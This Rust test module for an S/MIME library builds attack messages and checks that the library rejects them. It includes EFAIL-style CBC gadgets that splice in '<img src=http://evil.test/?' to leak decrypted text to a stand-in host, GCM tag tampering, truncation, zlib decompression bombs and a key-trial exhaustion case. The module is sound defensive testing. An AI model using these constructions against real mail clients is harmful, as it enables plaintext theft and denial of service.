//! Ciphertext changed, cut, sewn together or blown up by somebody who cannot read it.

use crate::Attack;
use crate::forge::{cms_of, rebuilt};
use crate::practice::{BOB, HTML, Practice, TEXT, entity, mail, now, opaque_by};
use souspli::keys::SoftwareKey;
use souspli::pki::Certificate;
use souspli::pki::ber::Reader;
use souspli::pki::{der, oid};
use souspli::smime::encrypt::Cipher;
use souspli::smime::port::WrappedKey;
use souspli::smime::{KeyError, OpenError, PrivateKey, SignatureScheme, Unwrapped, open};
use std::sync::atomic::{AtomicUsize, Ordering};

pub fn attacks(p: &Practice) -> Vec<Attack> {
    [unsigned(p), gadgets(p), authenticated(p), compressed(p)]
        .into_iter()
        .flatten()
        .collect()
}

fn unsigned(p: &Practice) -> Vec<Attack> {
    let lure = b"Content-Type: text/html\r\n\r\n<img src=\"http://evil.test/?";
    let outer = [
        b"Content-Type: multipart/mixed; boundary=xx\r\n\r\n--xx\r\n".as_slice(),
        lure,
        b"\r\n--xx\r\n",
        &p.seals(TEXT, Cipher::Aes256Cbc),
        b"\r\n--xx\r\nContent-Type: text/html\r\n\r\n\">\r\n--xx--\r\n",
    ]
    .concat();
    let page = b"Content-Type: multipart/mixed; boundary=i\r\n\r\n--i\r\nContent-Type: application/octet-stream; name=lettre.html\r\n\r\n<img src=http://evil.test/>\r\n--i--\r\n";
    let code = "encrypted-unsigned";
    vec![
        Attack::new("unsigned CBC", code, mail(BOB, &p.seals(TEXT, Cipher::Aes256Cbc))),
        Attack::new("unsigned CBC of HTML", code, mail(BOB, &p.seals(HTML, Cipher::Aes256Cbc))).shows("Rendez-vous lundi."),
        Attack::new(
            "unsigned CBC of HTML that fetches",
            code,
            mail(BOB, &p.seals(lure, Cipher::Aes256Cbc)),
        )
        .hides("evil.test"),
        Attack::new(
            "unsigned CBC of a page as a file",
            code,
            mail(BOB, &p.seals(page, Cipher::Aes256Cbc)),
        )
        .shows("lettre.html.txt"),
        Attack::new("unsigned GCM of HTML", code, mail(BOB, &p.seals(HTML, Cipher::Aes256Gcm))),
        Attack::new("ciphertext between the quotes of a link", "plain", mail(BOB, &outer)).hides("Rendez-vous"),
        Attack::new(
            "encrypted twice, unsigned",
            code,
            mail(BOB, &p.seals(&p.seals(HTML, Cipher::Aes256Gcm), Cipher::Aes256Cbc)),
        ),
        Attack::new(
            "the signature taken off",
            code,
            mail(BOB, &p.seals(&[b"X: y\r\n", TEXT].concat(), Cipher::Aes256Gcm)),
        ),
    ]
}

/// EFAIL: the first block is known, so blocks of any text can be made of it.
fn gadgets(p: &Practice) -> Vec<Attack> {
    let secret = b"Content-Type: text/html; charset=utf-8\r\n\r\n<p>Rendez-vous lundi a neuf heures.</p>\r\n";
    let sealed = Cbc::of(&cms_of(&p.seals(secret, Cipher::Aes256Cbc)));
    let known: [u8; 16] = secret[..16].try_into().unwrap();
    let gadget = |text: &[u8; 16]| {
        let block: Vec<u8> = sealed.iv.iter().zip(known).zip(text).map(|((i, k), t)| i ^ k ^ t).collect();
        [block, sealed.content[..16].to_vec()].concat()
    };
    let mut sewn = sealed.clone();
    sewn.content = sealed.content[..48].to_vec();
    for text in [b"<img src='http:/", b"/evil.test/?    "] {
        sewn.content.extend(gadget(text));
    }
    sewn.content.extend_from_slice(&sealed.content[48..]);
    let cut = |octets: usize| {
        let mut shorter = sealed.clone();
        shorter.content.truncate(shorter.content.len() - octets);
        mail(BOB, &entity("enveloped-data", &shorter.der()))
    };
    let mut beheaded = Cbc::of(&cms_of(&p.sealed_by(&p.bob, TEXT)));
    beheaded.iv = beheaded.content.drain(..16).collect();
    vec![
        Attack::new(
            "a gadget that makes it fetch",
            "encrypted-unsigned",
            mail(BOB, &entity("enveloped-data", &sewn.der())),
        ),
        Attack::new(
            "a signed one, the first block gone",
            "encrypted-unsigned",
            mail(BOB, &entity("enveloped-data", &beheaded.der())),
        ),
        Attack::new("the last block gone", "undecryptable", cut(16)),
        Attack::new("the last octet gone", "undecryptable", cut(1)),
    ]
}

fn authenticated(p: &Practice) -> Vec<Attack> {
    let cms = cms_of(&p.seals(&opaque_by(&p.bob, TEXT), Cipher::Aes256Gcm));
    let with_tag = |mac: &[u8]| rebuilt(&cms, &[1, 0], |parts| *parts.last_mut().unwrap() = der::octets(mac));
    let mac = cms[cms.len() - 16..].to_vec();
    let mut flipped = cms.clone();
    let at = flipped.len() - 40;
    flipped[at] ^= 1;
    let untagged = rebuilt(&cms, &[1, 0], |parts| drop(parts.pop()));
    let renamed = |cms: &[u8], kind| rebuilt(cms, &[], |parts| parts[0] = der::oid(kind));
    let attack = |name, code, cms: &[u8]| Attack::new(name, code, mail(BOB, &entity("authEnveloped-data", cms)));
    vec![
        attack("GCM, as it should be", "encrypted-signed", &cms),
        attack("GCM, one bit changed", "undecryptable", &flipped),
        attack("GCM, the tag in twelve octets", "undecryptable", &with_tag(&mac[..12])),
        attack("GCM, the tag in four octets", "undecryptable", &with_tag(&mac[..4])),
        attack("GCM, an empty tag", "undecryptable", &with_tag(&[])),
        attack("GCM, another tag", "undecryptable", &with_tag(&[7; 16])),
        attack("GCM without a tag", "damaged", &untagged),
        attack(
            "GCM passed off as EnvelopedData",
            "unsupported",
            &renamed(&untagged, oid::ENVELOPED_DATA),
        ),
    ]
}

fn compressed(p: &Practice) -> Vec<Attack> {
    let of = |octets: &[u8]| entity("compressed-data", &zlib(octets));
    let zeroes = [TEXT, &vec![b' '; 50 << 20]].concat();
    let twice = of(&of(&zeroes[..20 << 20]));
    vec![
        Attack::new("compressed by nobody", "unsigned", mail(BOB, &of(HTML))),
        Attack::new("compressed and signed", "signed", mail(BOB, &opaque_by(&p.bob, &of(TEXT)))).shows("Rendez-vous lundi."),
        Attack::new("fifty kilobytes that become fifty megabytes", "damaged", mail(BOB, &of(&zeroes))),
        Attack::new("the same inside each other", "damaged", mail(BOB, &twice)),
        Attack::new("the same under a signature", "damaged", mail(BOB, &opaque_by(&p.bob, &of(&zeroes)))),
        Attack::new(
            "the same, encrypted",
            "undecryptable",
            mail(BOB, &p.seals(&of(&zeroes), Cipher::Aes256Cbc)),
        ),
    ]
}

/// A ContentInfo of CompressedData (RFC 3274).
fn zlib(octets: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(octets).unwrap();
    let inside = der::sequence(&[&der::oid(oid::DATA), &der::tlv(0xa0, &[&der::octets(&encoder.finish().unwrap())])]);
    let data = der::sequence(&[&der::small(0), &der::algorithm(oid::ZLIB, &[]), &inside]);
    der::sequence(&[&der::oid(oid::COMPRESSED_DATA), &der::tlv(0xa0, &[&data])])
}

/// An EnvelopedData in its parts.
#[derive(Clone)]
struct Cbc {
    cms: Vec<u8>,
    iv: Vec<u8>,
    content: Vec<u8>,
}

impl Cbc {
    fn of(cms: &[u8]) -> Self {
        let mut found = Self {
            cms: cms.to_vec(),
            iv: Vec::new(),
            content: Vec::new(),
        };
        rebuilt(cms, &[1, 0, 2], |parts| {
            found.iv = parts[1][parts[1].len() - 16..].to_vec();
            found.content = Reader::new(&parts[2]).value().unwrap().content.to_vec();
        });
        found
    }

    fn der(&self) -> Vec<u8> {
        rebuilt(&self.cms, &[1, 0, 2], |parts| {
            parts[1] = der::algorithm(oid::AES256_CBC, &der::octets(&self.iv));
            parts[2] = der::tlv(0x80, &[&self.content]);
        })
    }
}

/// Whatever block of a signed letter is changed, it is not shown as Bob's.
#[test]
fn no_block_can_be_changed() {
    let p = Practice::new();
    let signed = Cbc::of(&cms_of(&p.sealed_by(&p.bob, TEXT)));
    for block in 0..signed.content.len() / 16 {
        let mut changed = signed.clone();
        changed.content[block * 16 + 5] ^= 0x20;
        let seen = p.opens(&mail(BOB, &entity("enveloped-data", &changed.der())));
        let same = seen.view.windows(18).any(|w| w == b"Rendez-vous lundi.");
        let verified = seen.verdict["grade"] == "verified";
        assert!(!verified || same, "{block} {}", seen.verdict);
    }
}

/// A thousand RecipientInfos for one key: each would cost a private key's work and the whole content.
#[test]
fn one_key_is_not_tried_for_ever() {
    let p = Practice::new();
    let cms = cms_of(&p.seals(TEXT, Cipher::Aes256Cbc));
    let crowd = rebuilt(&cms, &[1, 0, 1], |infos| {
        // What is wrapped is wrong in each.
        let last = infos[0].len() - 1;
        infos[0][last] ^= 1;
        *infos = vec![infos[0].clone(); 1000];
    });
    let key = Counting(&p.alice, AtomicUsize::new(0));
    let trust = p.authority.trust();
    let result = open(&mail(BOB, &entity("enveloped-data", &crowd)), &[&key], &trust, now());
    assert_eq!(result.unwrap_err(), OpenError::Undecryptable);
    assert_eq!(key.1.load(Ordering::Relaxed), souspli::base::limits::CMS_TRIES_MAX);
}

struct Counting<'a>(&'a SoftwareKey, AtomicUsize);

impl PrivateKey for Counting<'_> {
    fn certificate(&self) -> &Certificate {
        self.0.certificate()
    }

    fn chain(&self) -> &[Certificate] {
        self.0.chain()
    }

    fn sign(&self, scheme: SignatureScheme, to_be_signed: &[u8]) -> Result<Vec<u8>, KeyError> {
        self.0.sign(scheme, to_be_signed)
    }

    fn unwrap(&self, key: &WrappedKey) -> Unwrapped {
        self.1.fetch_add(1, Ordering::Relaxed);
        self.0.unwrap(key)
    }
}

/// The content key of GCM used for CBC, so that noise comes out, if anything: never more than text that nobody vouches for.
#[test]
fn a_key_of_one_cipher_is_no_key_of_another() {
    let p = Practice::new();
    for _ in 0..20 {
        let cms = cms_of(&p.seals(&opaque_by(&p.bob, TEXT), Cipher::Aes256Gcm));
        let untagged = rebuilt(&cms, &[1, 0], |parts| drop(parts.pop()));
        let named = rebuilt(&untagged, &[], |parts| parts[0] = der::oid(oid::ENVELOPED_DATA));
        let cbc = rebuilt(&named, &[1, 0, 2], |parts| {
            parts[1] = der::algorithm(oid::AES256_CBC, &der::octets(&[0; 16]));
            parts[2] = der::tlv(0x80, &[&[7; 160]]);
        });
        let seen = p.opens(&mail(BOB, &entity("enveloped-data", &cbc)));
        let code = seen.verdict["code"].as_str().unwrap();
        assert!(matches!(code, "undecryptable" | "encrypted-unsigned"), "{code}");
    }
}
